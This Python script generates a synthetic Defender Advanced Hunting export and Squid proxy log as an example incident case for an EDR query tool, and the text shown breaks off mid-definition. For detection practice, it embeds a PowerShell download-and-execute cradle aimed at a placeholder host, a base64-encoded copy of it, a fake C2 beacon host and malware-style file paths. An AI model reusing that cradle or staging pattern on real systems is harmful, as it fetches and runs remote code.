#!/usr/bin/env python3
"""Regenerate the bundled example case for edrql.

Writes, relative to this script's folder (or to ``--out DIR``):

    case/export_early.csv        Defender Advanced Hunting export taken at 14:25Z
    case/export_late.csv         Defender Advanced Hunting export taken at 15:30Z
    case/proxy/squid_access.log  Squid native access log of the same window
    expected.json                machine-readable facts about the case

The case is synthetic but built to behave like the real exports: see
README.md beside this script for the story and the expected findings.

Deterministic: standard library only, one fixed random seed, no use of the
current time.  Running it twice gives byte-identical files; the files are
committed together with this script.  Run with Python 3.11:

    python3 examples/make_example.py            # rewrite examples/case + expected.json
    python3 examples/make_example.py --out DIR  # write the same files under DIR
"""

from __future__ import annotations

import argparse
import base64
import csv
import hashlib
import io
import json
import random
from dataclasses import dataclass
from datetime import datetime, timezone
from pathlib import Path

SEED = 20230810

COLUMNS = [
    "Timestamp", "DeviceId", "DeviceName", "ActionType", "FileName", "FolderPath",
    "SHA256", "MD5", "ProcessId", "ProcessCommandLine", "ProcessCreationTime",
    "AccountDomain", "AccountName", "InitiatingProcessFileName",
    "InitiatingProcessFolderPath", "InitiatingProcessId",
    "InitiatingProcessCommandLine", "InitiatingProcessCreationTime",
    "InitiatingProcessAccountName", "InitiatingProcessParentId",
    "InitiatingProcessParentFileName", "InitiatingProcessParentCreationTime",
    "RemoteIP", "RemotePort", "RemoteUrl", "LocalIP", "LocalPort", "Protocol",
    "RegistryKey", "RegistryValueName", "RegistryValueData", "PreviousFileName",
    "PreviousFolderPath", "ReportId",
]

# ---------------------------------------------------------------------------
# time: integer ticks of 100 ns since 2023-08-10T00:00:00Z
# ---------------------------------------------------------------------------
DAY = datetime(2023, 8, 10, tzinfo=timezone.utc)
DAY_EPOCH = int(DAY.timestamp())  # 1691625600
TICKS = 10_000_000


def T(h: int, m: int, s: int, frac: int = 0) -> int:
    """Ticks for 2023-08-10 h:m:s + frac/10^7 s (frac = the 7 fractional digits)."""
    return ((h * 60 + m) * 60 + s) * TICKS + frac


def iso(t: int) -> str:
    sec, frac = divmod(t, TICKS)
    h, rem = divmod(sec, 3600)
    m, s = divmod(rem, 60)
    return f"2023-08-10T{h:02d}:{m:02d}:{s:02d}.{frac:07d}Z"


def epoch_ms(t: int) -> str:
    """Squid's '%ts.%03tu' (epoch seconds with milliseconds)."""
    sec, frac = divmod(t, TICKS)
    return f"{DAY_EPOCH + sec}.{frac // 10_000:03d}"


WINDOW_START = T(13, 30, 0)
EARLY_CUTOFF = T(14, 25, 0)   # export_early.csv taken at 14:25Z
WINDOW_END = T(15, 30, 0)     # export_late.csv taken at 15:30Z

# ---------------------------------------------------------------------------
# accounts, hashes
# ---------------------------------------------------------------------------
SYSTEM = ("nt authority", "system")
LOCALSVC = ("nt authority", "local service")
NETSVC = ("nt authority", "network service")


def content_hashes(key: str) -> tuple[str, str]:
    """Stable fake SHA256/MD5 for a file content identified by key."""
    raw = ("edrql-example-content:" + key.lower()).encode("utf-8")
    return hashlib.sha256(raw).hexdigest(), hashlib.md5(raw).hexdigest()


# ---------------------------------------------------------------------------
# processes and hosts
# ---------------------------------------------------------------------------
@dataclass(eq=False)
class Proc:
    pid: int
    path: str          # full image path
    cmd: str
    ct: int            # creation time (ticks)
    account: tuple[str, str]
    parent: "Proc | None" = None
    content: str | None = None   # content key for hashes (default: path)

    @property
    def name(self) -> str:
        return self.path.rsplit("\\", 1)[-1]

    def hashes(self) -> tuple[str, str]:
        return content_hashes(self.content or self.path)


class Host:
    def __init__(self, fqdn: str, ip: str, user: str, report_start: int, rng: random.Random):
        self.name = fqdn
        self.device_id = hashlib.sha1(("edrql-example-device:" + fqdn).encode()).hexdigest()
        self.ip = ip
        self.user = (fqdn.split(".")[1], user)  # ("contoso", user)
        self.report_start = report_start
        self.rng = rng
        self.events: list[dict] = []
        self.used_pids: set[int] = set()
        self.reserved_pids: set[int] = set()
        self.roles: dict[str, Proc] = {}

    # -- pids ---------------------------------------------------------------
    def proc(self, pid: int, path: str, cmd: str, ct: int, account, parent=None,
             content=None, reuse_ok: bool = False) -> Proc:
        if pid in self.used_pids and not reuse_ok:
            raise ValueError(f"pid {pid} used twice on {self.name}")
        self.used_pids.add(pid)
        return Proc(pid, path, cmd, ct, account, parent, content)

    def new_pid(self) -> int:
        while True:
            pid = self.rng.randrange(1100, 16000, 4)
            if pid not in self.used_pids and pid not in self.reserved_pids:
                return pid

    def lport(self) -> int:
        return self.rng.randint(49700, 65300)

    # -- event builders -----------------------------------------------------
    def _base(self, t: int, action: str) -> dict:
        d = dict.fromkeys(COLUMNS, "")
        d.update(Timestamp=iso(t), DeviceId=self.device_id, DeviceName=self.name,
                 ActionType=action)
        d["_t"] = t
        self.events.append(d)
        return d

    @staticmethod
    def _initiating(d: dict, p: Proc) -> None:
        d["InitiatingProcessFileName"] = p.name
        d["InitiatingProcessFolderPath"] = p.path
        d["InitiatingProcessId"] = str(p.pid)
        d["InitiatingProcessCommandLine"] = p.cmd
        d["InitiatingProcessCreationTime"] = iso(p.ct)
        d["InitiatingProcessAccountName"] = p.account[1]
        if p.parent is not None:
            d["InitiatingProcessParentId"] = str(p.parent.pid)
            d["InitiatingProcessParentFileName"] = p.parent.name
            d["InitiatingProcessParentCreationTime"] = iso(p.parent.ct)

    def created(self, child: Proc) -> dict:
        """DeviceProcessEvents ProcessCreated for child (Timestamp = its creation time)."""
        d = self._base(child.ct, "ProcessCreated")
        sha, md5 = child.hashes()
        d.update(FileName=child.name, FolderPath=child.path, SHA256=sha, MD5=md5,
                 ProcessId=str(child.pid), ProcessCommandLine=child.cmd,
                 ProcessCreationTime=iso(child.ct), AccountDomain=child.account[0],
                 AccountName=child.account[1])
        self._initiating(d, child.parent)
        return d

    def spawn(self, parent: Proc, t: int, path: str, cmd: str, account=None,
              pid: int | None = None, content=None, reuse_ok=False) -> Proc:
        child = self.proc(pid if pid is not None else self.new_pid(), path, cmd, t,
                          account or parent.account, parent, content, reuse_ok)
        self.created(child)
        return child

    def file(self, t: int, actor: Proc, action: str, path: str, content: str | None = None,
             previous: str | None = None) -> dict:
        d = self._base(t, action)
        d["FileName"] = path.rsplit("\\", 1)[-1]
        d["FolderPath"] = path
        if action != "FileDeleted":
            d["SHA256"], d["MD5"] = content_hashes(content or path)
        if previous is not None:
            d["PreviousFileName"] = previous.rsplit("\\", 1)[-1]
            d["PreviousFolderPath"] = previous
        self._initiating(d, actor)
        return d

    def net(self, t: int, actor: Proc, action: str, rip: str, rport: int, url: str = "",
            lport: int | None = None) -> dict:
        d = self._base(t, action)
        d.update(RemoteIP=rip, RemotePort=str(rport), RemoteUrl=url, LocalIP=self.ip,
                 LocalPort=str(lport if lport is not None else self.lport()), Protocol="Tcp")
        self._initiating(d, actor)
        return d

    def reg(self, t: int, actor: Proc, action: str, key: str, name: str = "",
            data: str = "") -> dict:
        d = self._base(t, action)
        d.update(RegistryKey=key, RegistryValueName=name, RegistryValueData=data)
        self._initiating(d, actor)
        return d

    def image(self, t: int, actor: Proc, dll: str, content: str | None = None) -> dict:
        d = self._base(t, "ImageLoaded")
        sha, md5 = content_hashes(content or dll)
        d.update(FileName=dll.rsplit("\\", 1)[-1], FolderPath=dll, SHA256=sha, MD5=md5)
        self._initiating(d, actor)
        return d

    def finish(self) -> list[dict]:
        """Sort by time and number the events with the per-host ReportId counter."""
        self.events.sort(key=lambda e: e["_t"])
        for i, e in enumerate(self.events):
            e["ReportId"] = str(self.report_start + i)
        return self.events


# ---------------------------------------------------------------------------
# paths and command lines used more than once
# ---------------------------------------------------------------------------
SYS32 = "C:\\Windows\\System32"
SVCHOST = SYS32 + "\\svchost.exe"
CHROME = "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe"
EDGE = "C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe"
WORD = "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE"
POWERSHELL = SYS32 + "\\WindowsPowerShell\\v1.0\\powershell.exe"
DEFENDER_DIR = "C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.23070.1004-0"
CHROME_TRIALS = "--field-trial-handle=1956,i,4421358912734619822,11873266539142207335,262144"
EDGE_TRIALS = "--field-trial-handle=2104,i,7752143398810263215,5209348817264339019,262144"
TEAMS_TRIALS = "--field-trial-handle=1752,i,1402968381726049184,9875332188371293458,131072"
RUN_KEY = "HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\Run"

CRADLE = "IEX (New-Object Net.WebClient).DownloadString('http://update-check.example/invoice.ps1')"
ENC = base64.b64encode(CRADLE.encode("utf-16-le")).decode("ascii")

INTEL_DIR = "C:\\ProgramData\\Intel"
UPDSVC = INTEL_DIR + "\\updsvc.exe"
VERSION_DLL = INTEL_DIR + "\\version.dll"
UPDSVC_CFG = INTEL_DIR + "\\updsvc.cfg"
EMOTET_DLL = "C:\\Users\\jdoe\\AppData\\Local\\Temp\\emotet.dll"
HIDDEN_NAME = "invoice_Q3_final.pdf.scr"
# %LOCALAPPDATA%\Temp + name with the path separator missing:
HIDDEN_PATH = "C:\\Users\\jdoe\\AppData\\Local\\Temp" + HIDDEN_NAME

C2_HOST = "cdn-telemetry.example"
C2_IP = "203.0.113.45"
C2_BEACON_URL = f"http://{C2_HOST}/api/v2/beacon"
C2_CONFIG_URL = f"http://{C2_HOST}/api/v2/config"
DL_HOST = "update-check.example"
DL_IP = "198.51.100.23"


def baseline(h: Host, user_home: str, boot: int, logon: int) -> None:
    """Long-running processes that exist before the window (no events for their start)."""
    u = h.user
    r = h.roles
    smss = h.proc(h.new_pid(), SYS32 + "\\smss.exe", "\\SystemRoot\\System32\\smss.exe", boot, SYSTEM)
    wininit = h.proc(h.new_pid(), SYS32 + "\\wininit.exe", "wininit.exe", boot + 3 * TICKS + 1834411, SYSTEM, smss)
    winlogon = h.proc(h.new_pid(), SYS32 + "\\winlogon.exe", "winlogon.exe", boot + 3 * TICKS + 2911847, SYSTEM, smss)
    services = h.proc(h.new_pid(), SYS32 + "\\services.exe", "C:\\Windows\\system32\\services.exe", boot + 3 * TICKS + 6421150, SYSTEM, wininit)
    svc_t = boot + 5 * TICKS

    def svc(role, cmd, acct, dt):
        r[role] = h.proc(h.new_pid(), SVCHOST, cmd, svc_t + dt, acct, services)

    svc("dcom", "C:\\Windows\\system32\\svchost.exe -k DcomLaunch -p", SYSTEM, 1200317)
    svc("rpcss", "C:\\Windows\\system32\\svchost.exe -k RPCSS -p", NETSVC, 4518820)
    svc("sched", "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule", SYSTEM, 9_110_482)
    svc("dnscache", "C:\\Windows\\system32\\svchost.exe -k NetworkService -p -s Dnscache", NETSVC, 13_774_105)
    svc("sysmain", "C:\\Windows\\system32\\svchost.exe -k LocalSystemNetworkRestricted -p -s SysMain", SYSTEM, 21_006_913)
    svc("wu", "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s wuauserv", SYSTEM, 36_452_770)
    r["msmpeng"] = h.proc(h.new_pid(), DEFENDER_DIR + "\\MsMpEng.exe", f"\"{DEFENDER_DIR}\\MsMpEng.exe\"", svc_t + 41_203_664, SYSTEM, services)
    r["searchidx"] = h.proc(h.new_pid(), SYS32 + "\\SearchIndexer.exe", "C:\\Windows\\system32\\SearchIndexer.exe /Embedding", svc_t + 88_310_275, SYSTEM, services)
    userinit = h.proc(h.new_pid(), SYS32 + "\\userinit.exe", "C:\\Windows\\system32\\userinit.exe", logon, u, winlogon)
    r["explorer"] = h.proc(h.new_pid(), "C:\\Windows\\explorer.exe", "C:\\Windows\\Explorer.EXE", logon + 6_102_944, u, userinit)
    ex = r["explorer"]
    od = user_home + "\\AppData\\Local\\Microsoft\\OneDrive\\OneDrive.exe"
    r["onedrive"] = h.proc(h.new_pid(), od, f"\"{od}\" /background", logon + 14 * TICKS + 3_381_201, u, ex)
    teams = user_home + "\\AppData\\Local\\Microsoft\\Teams\\current\\Teams.exe"
    r["teams"] = h.proc(h.new_pid(), teams, f"\"{teams}\" --system-initiated", logon + 17 * TICKS + 822_519, u, ex)
    r["chrome"] = h.proc(h.new_pid(), CHROME, f"\"{CHROME}\"", logon + 13 * 60 * TICKS + 2_291_736, u, ex)


# ---------------------------------------------------------------------------
# background noise templates: each takes (host, t) and emits one event
# ---------------------------------------------------------------------------
CHROME_DOMAINS = [
    ("142.250.185.68", "www.google.com"), ("142.250.185.99", "fonts.gstatic.com"),
    ("142.250.185.110", "www.youtube.com"), ("142.250.185.142", "mail.google.com"),
    ("142.250.185.174", "docs.google.com"), ("142.250.185.206", "clients4.google.com"),
    ("142.250.186.35", "www.gstatic.com"), ("142.250.186.74", "accounts.google.com"),
    ("151.101.1.140", "www.reddit.com"), ("104.18.32.47", "www.salesforce.com"),
]


def n_chrome_child(h: Host, t: int):
    rng = h.rng
    kind = rng.choice(["renderer", "renderer", "renderer", "utility", "gpu"])
    rid = rng.randint(40, 480)
    handle = rng.randrange(2000, 9000, 4)
    if kind == "renderer":
        cmd = (f"\"{CHROME}\" --type=renderer --display-capture-permissions-policy-allowed "
               f"--lang=en-US --device-scale-factor=1 --num-raster-threads=4 "
               f"--enable-main-frame-before-activation --renderer-client-id={rid} "
               f"--time-ticks-at-unix-epoch=-1691647269812371 --launch-time-ticks={rng.randint(10**10, 3 * 10**10)} "
               f"--mojo-platform-channel-handle={handle} {CHROME_TRIALS} /prefetch:1")
    elif kind == "utility":
        cmd = (f"\"{CHROME}\" --type=utility --utility-sub-type=storage.mojom.StorageService "
               f"--lang=en-US --service-sandbox-type=service --mojo-platform-channel-handle={handle} "
               f"{CHROME_TRIALS} /prefetch:8")
    else:
        cmd = (f"\"{CHROME}\" --type=gpu-process --gpu-preferences=UAAAAAAAAADgAAAYAAAAAAAAAAAAAAAAAABgAAAAAAAwAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA "
               f"--mojo-platform-channel-handle={handle} {CHROME_TRIALS} /prefetch:2")
    h.spawn(h.roles["chrome"], t, CHROME, cmd)


def n_teams_child(h: Host, t: int):
    p = h.roles["teams"]
    cmd = (f"\"{p.path}\" --type=renderer --autoplay-policy=no-user-gesture-required "
           f"--disable-background-timer-throttling --lang=en-US --device-scale-factor=1 "
           f"--renderer-client-id={h.rng.randint(9, 90)} --mojo-platform-channel-handle={h.rng.randrange(3000, 6000, 4)} "
           f"{TEAMS_TRIALS} --disable-features=SpareRendererForSitePerProcess,WinRetrieveSuggestionsOnlyOnDemand /prefetch:1")
    h.spawn(p, t, p.path, cmd)


def n_search_child(h: Host, t: int):
    p = h.roles["searchidx"]
    n = h.rng.randint(100, 999)
    if h.rng.random() < 0.6:
        path = SYS32 + "\\SearchProtocolHost.exe"
        cmd = (f"\"C:\\Windows\\system32\\SearchProtocolHost.exe\" Global\\UsGthrFltPipeMssGthrPipe{n}_ "
               f"Global\\UsGthrCtrlFltPipeMssGthrPipe{n} 1 -2147483646 \"Software\\Microsoft\\Windows Search\" "
               f"\"Mozilla/4.0 (compatible; MSIE 6.0; Windows NT; MS Search 4.0 Robot)\" "
               f"\"C:\\ProgramData\\Microsoft\\Search\\Data\\Temp\\usgthrsvc\" \"DownLevelDaemon\" ")
    else:
        path = SYS32 + "\\SearchFilterHost.exe"
        cmd = f"\"C:\\Windows\\system32\\SearchFilterHost.exe\" 0 {n} {n + 4} {n + 12} 8192 {n + 8} {n - 16} "
    h.spawn(p, t, path, cmd, SYSTEM)


DCOM_CHILDREN = [
    (SYS32 + "\\RuntimeBroker.exe", "C:\\Windows\\System32\\RuntimeBroker.exe -Embedding", "user"),
    (SYS32 + "\\dllhost.exe", "C:\\Windows\\system32\\DllHost.exe /Processid:{3EB3C877-1F16-487C-9050-104DBCD66683}", "user"),
    (SYS32 + "\\dllhost.exe", "C:\\Windows\\system32\\DllHost.exe /Processid:{AB8902B4-09CA-4BB6-B78D-A8F59079A8D5}", "user"),
    (SYS32 + "\\wbem\\WmiPrvSE.exe", "C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding", NETSVC),
    (SYS32 + "\\backgroundTaskHost.exe", "\"C:\\Windows\\system32\\backgroundTaskHost.exe\" -ServerName:BackgroundTaskHost.WebAccountProvider", "user"),
    (SYS32 + "\\rundll32.exe", "C:\\Windows\\system32\\rundll32.exe C:\\Windows\\system32\\shell32.dll,SHCreateLocalServerRunDll {9aa46009-3ce0-458a-a354-715610a075e6} -Embedding", "user"),
    (SYS32 + "\\smartscreen.exe", "C:\\Windows\\System32\\smartscreen.exe -Embedding", "user"),
]


def n_dcom_child(h: Host, t: int):
    path, cmd, acct = h.rng.choice(DCOM_CHILDREN)
    h.spawn(h.roles["dcom"], t, path, cmd, h.user if acct == "user" else acct)


def n_sched_child(h: Host, t: int):
    p = h.roles["sched"]
    home = f"C:\\Users\\{h.user[1]}"
    choices = [
        (SYS32 + "\\taskhostw.exe", "taskhostw.exe -RegisterDevice -ProtectionStateChanged -FreeNetworkOnly", SYSTEM),
        (SYS32 + "\\taskhostw.exe", "taskhostw.exe Install $(Arg0)", h.user),
        ("C:\\Program Files (x86)\\Microsoft\\EdgeUpdate\\MicrosoftEdgeUpdate.exe",
         "\"C:\\Program Files (x86)\\Microsoft\\EdgeUpdate\\MicrosoftEdgeUpdate.exe\" /ua /installsource scheduler", SYSTEM),
        ("C:\\Program Files (x86)\\Google\\Update\\GoogleUpdate.exe",
         "\"C:\\Program Files (x86)\\Google\\Update\\GoogleUpdate.exe\" /ua /installsource scheduler", SYSTEM),
        (home + "\\AppData\\Local\\Microsoft\\OneDrive\\23.153.0725.0001\\OneDriveStandaloneUpdater.exe",
         f"\"{home}\\AppData\\Local\\Microsoft\\OneDrive\\23.153.0725.0001\\OneDriveStandaloneUpdater.exe\" /reporting", h.user),
    ]
    path, cmd, acct = h.rng.choice(choices)
    h.spawn(p, t, path, cmd, acct)


def n_mpcmdrun(h: Host, t: int):
    p = h.roles["msmpeng"]
    cmd = (f"\"{DEFENDER_DIR}\\MpCmdRun.exe\" SpynetReport -RestrictPrivileges "
           f"-AccessKey 6C7EE2E7-{h.rng.randint(1000, 9999)}-4F2B-9C7B-1D36A0F0A3E2 -Reinvoke")
    h.spawn(p, t, DEFENDER_DIR + "\\MpCmdRun.exe", cmd, SYSTEM)


def n_chrome_file(h: Host, t: int):
    home = f"C:\\Users\\{h.user[1]}"
    prof = home + "\\AppData\\Local\\Google\\Chrome\\User Data\\Default"
    rng = h.rng
    roll = rng.random()
    if roll < 0.45:
        path = prof + f"\\Cache\\Cache_Data\\f_{rng.randint(0x100, 0x4fff):06x}"
        action = "FileCreated"
    elif roll < 0.6:
        path = prof + f"\\Cache\\Cache_Data\\f_{rng.randint(0x100, 0x4fff):06x}"
        action = "FileDeleted"
    else:
        path = prof + rng.choice(["\\Network\\Cookies-journal", "\\History-journal",
                                  f"\\Local Storage\\leveldb\\{rng.randint(400, 460):06d}.log",
                                  "\\Sessions\\Session_13336951283922171", "\\Preferences"])
        action = "FileModified"
    h.file(t, h.roles["chrome"], action, path, content=f"{path}@{t}")


def n_onedrive_file(h: Host, t: int):
    home = f"C:\\Users\\{h.user[1]}"
    rng = h.rng
    if h.user[1] == "jdoe":
        docs = ["Sales\\Prévisions_Q3, EMEA.xlsx", "Sales\\Pipeline 2023-08.xlsx",
                "Sales\\Customer list (final).csv", "Sales\\Quotes\\Q-2023-0817 Fabrikam.docx",
                "Desktop\\meeting notes.docx"]
    else:
        docs = ["HR\\Onboarding checklist.docx", "HR\\Holiday planner 2023.xlsx",
                "HR\\Policies\\Travel policy, v3.pdf"]
    if rng.random() < 0.7:
        path = home + "\\OneDrive - Contoso\\" + rng.choice(docs)
        action = "FileModified"
    else:
        path = home + f"\\AppData\\Local\\Microsoft\\OneDrive\\logs\\Business1\\SyncEngine-2023-08-10.{rng.randint(1300, 1530)}.{h.roles['onedrive'].pid}.{rng.randint(1, 9)}.odl"
        action = "FileCreated"
    h.file(t, h.roles["onedrive"], action, path, content=f"{path}@{t}")


def n_teams_file(h: Host, t: int):
    home = f"C:\\Users\\{h.user[1]}"
    path = home + h.rng.choice([
        "\\AppData\\Roaming\\Microsoft\\Teams\\logs.txt",
        "\\AppData\\Roaming\\Microsoft\\Teams\\IndexedDB\\https_teams.microsoft.com_0.indexeddb.leveldb\\000731.log",
        "\\AppData\\Roaming\\Microsoft\\Teams\\Cookies-journal"])
    h.file(t, h.roles["teams"], "FileModified", path, content=f"{path}@{t}")


PREFETCH = ["CHROME.EXE-BA2A3C2F.pf", "TEAMS.EXE-4E5C6A1B.pf", "ONEDRIVE.EXE-8A3F2C11.pf",
            "SEARCHPROTOCOLHOST.EXE-AFAD3EF9.pf", "RUNTIMEBROKER.EXE-2D1A8E2B.pf",
            "BACKGROUNDTASKHOST.EXE-1C4FD2A3.pf", "DLLHOST.EXE-4F6C9A7E.pf"]


def n_prefetch(h: Host, t: int):
    path = "C:\\Windows\\Prefetch\\" + h.rng.choice(PREFETCH)
    h.file(t, h.roles["sysmain"], "FileModified", path, content=f"{path}@{t}")


def n_explorer_file(h: Host, t: int):
    home = f"C:\\Users\\{h.user[1]}"
    path = home + "\\AppData\\Roaming\\Microsoft\\Windows\\Recent\\AutomaticDestinations\\" + h.rng.choice(
        ["5f7b5f1e01b83767.automaticDestinations-ms", "f01b4d95cf55d32a.automaticDestinations-ms",
         "a7bd71699cd38d1c.automaticDestinations-ms"])
    h.file(t, h.roles["explorer"], "FileModified", path, content=f"{path}@{t}")


def n_defender_file(h: Host, t: int):
    path = "C:\\ProgramData\\Microsoft\\Windows Defender\\" + h.rng.choice(
        ["Support\\MPLog-20230301-094512.log", "Scans\\History\\CacheManager\\MpSfc.bin",
         "Scans\\mpenginedb.db-wal"])
    h.file(t, h.roles["msmpeng"], "FileModified", path, content=f"{path}@{t}")


def n_search_file(h: Host, t: int):
    path = "C:\\ProgramData\\Microsoft\\Search\\Data\\Applications\\Windows\\" + h.rng.choice(
        ["Windows.edb", "MSS.log", f"MSS{h.rng.randint(1, 40):05d}.log"])
    h.file(t, h.roles["searchidx"], "FileModified", path, content=f"{path}@{t}")


def n_chrome_net(h: Host, t: int):
    ip, url = h.rng.choice(CHROME_DOMAINS)
    action = "ConnectionSuccess" if h.rng.random() < 0.93 else "ConnectionFailed"
    h.net(t, h.roles["chrome"], action, ip, 443, url)


def n_onedrive_net(h: Host, t: int):
    ip, url = h.rng.choice([("13.107.136.9", "contoso-my.sharepoint.com"),
                            ("13.107.138.9", "contoso.sharepoint.com"),
                            ("52.109.12.19", "roaming.officeapps.live.com"),
                            ("20.190.159.68", "login.microsoftonline.com")])
    h.net(t, h.roles["onedrive"], "ConnectionSuccess", ip, 443, url)


def n_teams_net(h: Host, t: int):
    ip, url = h.rng.choice([("52.113.194.132", "teams.microsoft.com"),
                            ("52.114.128.43", "presence.teams.microsoft.com"),
                            ("52.112.120.204", "eu-prod.asyncgw.teams.microsoft.com")])
    h.net(t, h.roles["teams"], "ConnectionSuccess", ip, 443, url)


def n_svc_net(h: Host, t: int):
    rng = h.rng
    roll = rng.random()
    if roll < 0.35:
        h.net(t, h.roles["wu"], "ConnectionSuccess", "20.72.235.82", 443, "fe3cr.delivery.mp.microsoft.com")
    elif roll < 0.55:
        h.net(t, h.roles["wu"], "ConnectionSuccess", "13.107.4.50", 80, "ctldl.windowsupdate.com")
    elif roll < 0.8:
        h.net(t, h.roles["msmpeng"], "ConnectionSuccess", "20.50.201.195", 443, "wdcp.microsoft.com")
    elif roll < 0.9:
        h.net(t, h.roles["msmpeng"], "ConnectionFailed", "52.182.143.212", 443, "winatp-gw-cus.microsoft.com")
    else:
        # RPC from the SCCM server
        h.net(t, h.roles["rpcss"], "InboundConnectionAccepted", "10.20.1.5", rng.randint(50000, 60000), "", lport=135)


def n_registry(h: Host, t: int):
    rng = h.rng
    roll = rng.random()
    if roll < 0.45:
        app = rng.choice(["Microsoft.Office.WINWORD.EXE.15", "Chrome", "Microsoft.Office.EXCEL.EXE.15",
                          "Microsoft.Windows.Explorer", "com.squirrel.Teams.Teams"])
        h.reg(t, h.roles["explorer"], "RegistryValueSet",
              "HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\Explorer\\FeatureUsage\\AppSwitched",
              app, str(rng.randint(3, 400)))
    elif roll < 0.6:
        h.reg(t, h.roles["explorer"], "RegistryKeyCreated",
              f"HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\Explorer\\SessionInfo\\1\\ApplicationViewManagement\\W32:{rng.randint(0x10000, 0xfffff):016X}")
    elif roll < 0.8:
        h.reg(t, h.roles["wu"], "RegistryValueSet",
              "HKEY_LOCAL_MACHINE\\SOFTWARE\\Microsoft\\WindowsUpdate\\UpdatePolicy\\Settings",
              "LastScanTime", str(133361000000000000 + rng.randint(0, 10**9)))
    else:
        h.reg(t, h.roles["msmpeng"], "RegistryValueSet",
              "HKEY_LOCAL_MACHINE\\SOFTWARE\\Microsoft\\Windows Defender\\Signature Updates",
              "SignaturesLastUpdated", f"0x{rng.randint(0x01d9cb00, 0x01d9cbff):08x}")


def n_image(h: Host, t: int):
    actor, dll = h.rng.choice([
        ("chrome", SYS32 + "\\winhttp.dll"), ("chrome", SYS32 + "\\mswsock.dll"),
        ("teams", SYS32 + "\\d3d11.dll"), ("searchidx", SYS32 + "\\mssrch.dll"),
        ("onedrive", SYS32 + "\\cryptnet.dll"), ("explorer", SYS32 + "\\thumbcache.dll")])
    h.image(t, h.roles[actor], dll)


NOISE = [
    (n_chrome_child, 14), (n_teams_child, 4), (n_search_child, 6), (n_dcom_child, 6),
    (n_sched_child, 3), (n_mpcmdrun, 1),
    (n_chrome_file, 12), (n_onedrive_file, 7), (n_teams_file, 4), (n_prefetch, 4),
    (n_explorer_file, 3), (n_defender_file, 2), (n_search_file, 3),
    (n_chrome_net, 12), (n_onedrive_net, 5), (n_teams_net, 5), (n_svc_net, 5),
    (n_registry, 8), (n_image, 7),
]


def add_noise(h: Host, start: int, end: int, count: int, exclude=()) -> None:
    funcs = [f for f, _ in NOISE if f not in exclude]
    weights = [w for f, w in NOISE if f not in exclude]
    times = sorted(h.rng.randrange(start, end) for _ in range(count))
    for t in times:
        h.rng.choices(funcs, weights)[0](h, t)


# ---------------------------------------------------------------------------
# pc-sales-07: the incident
# ---------------------------------------------------------------------------
def build_sales(rng: random.Random) -> tuple[Host, dict]:
    h = Host("pc-sales-07.contoso.local", "10.20.30.47", "jdoe", 48211, rng)
    # scripted pids are reserved before any random pid is drawn
    P = dict(edge=6640, ps=6640, word=3876, rundll=7288, cmd_whoami=2964, whoami=8836,
             schtasks=9404, updsvc=5112, cmd_copy=10548, ps_conhost=11020,
             cmd_conhost=4076, it_ps=10236, it_conhost=12484)
    h.reserved_pids |= set(P.values())
    baseline(h, "C:\\Users\\jdoe", boot=T(7, 52, 11, 4820071), logon=T(8, 1, 3, 2271938))
    r = h.roles
    ex, chrome, sched, svcs_dcom = r["explorer"], r["chrome"], r["sched"], r["dcom"]
    facts: dict = {}

    # ---- scripted benign events (also realistic CSV edge cases) -------------
    od = r["onedrive"]
    h.reg(T(13, 41, 27, 5529306), od, "RegistryValueSet", RUN_KEY, "OneDrive",
          f"\"{od.path}\" /background")
    tm = r["teams"]
    h.reg(T(13, 41, 28, 130772), tm, "RegistryValueSet", RUN_KEY, "com.squirrel.Teams.Teams",
          "C:\\Users\\jdoe\\AppData\\Local\\Microsoft\\Teams\\Update.exe --processStart \"Teams.exe\" "
          "--process-start-args \"--system-initiated\"")
    # IT clean-up task: a command line with an embedded newline (LF) inside the quoted cell
    it_cmd = ("\"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe\" -NoProfile -ExecutionPolicy Bypass "
              "-Command \"Get-ChildItem $env:TEMP -Filter *.log -Recurse |\n"
              "  Where-Object { $_.LastWriteTime -lt (Get-Date).AddDays(-7) } | Remove-Item -Force\"")
    it_ps = h.spawn(sched, T(13, 45, 0, 3318452), POWERSHELL, it_cmd, SYSTEM, pid=P["it_ps"])
    h.spawn(it_ps, T(13, 45, 0, 3561029), SYS32 + "\\conhost.exe",
            "\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1", SYSTEM, pid=P["it_conhost"])
    h.file(T(13, 45, 1, 9921377), it_ps, "FileDeleted", "C:\\Windows\\Temp\\MpCmdRun.log.1")

    # ---- pitfall 1a: msedge.exe PID 6640, an earlier life ------------------
    edge_ct = T(14, 1, 41, 2846137)
    edge = h.spawn(ex, edge_ct, EDGE,
                   f"\"{EDGE}\" --single-argument https://contoso.sharepoint.com/sites/Sales/Shared%20Documents/Forms/AllItems.aspx",
                   pid=P["edge"])
    edge_children = [
        (T(14, 1, 41, 6013270), "--type=crashpad-handler --no-periodic-tasks \"--user-data-dir=C:\\Users\\jdoe\\AppData\\Local\\Microsoft\\Edge\\User Data\" /prefetch:7 --monitor-self-annotation=ptype=crashpad-handler \"--database=C:\\Users\\jdoe\\AppData\\Local\\Microsoft\\Edge\\User Data\\Crashpad\" --annotation=IsOfficialBuild=1 --annotation=channel= --annotation=chromium-version=115.0.5790.171 --annotation=exe=C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe --annotation=plat=Win64 --annotation=prod=Edge --annotation=ver=115.0.1901.203 --initial-client-data=0x10c,0x110,0x114,0xe8,0x140,0x7ffc2c6b5fa8,0x7ffc2c6b5fb8,0x7ffc2c6b5fc8"),
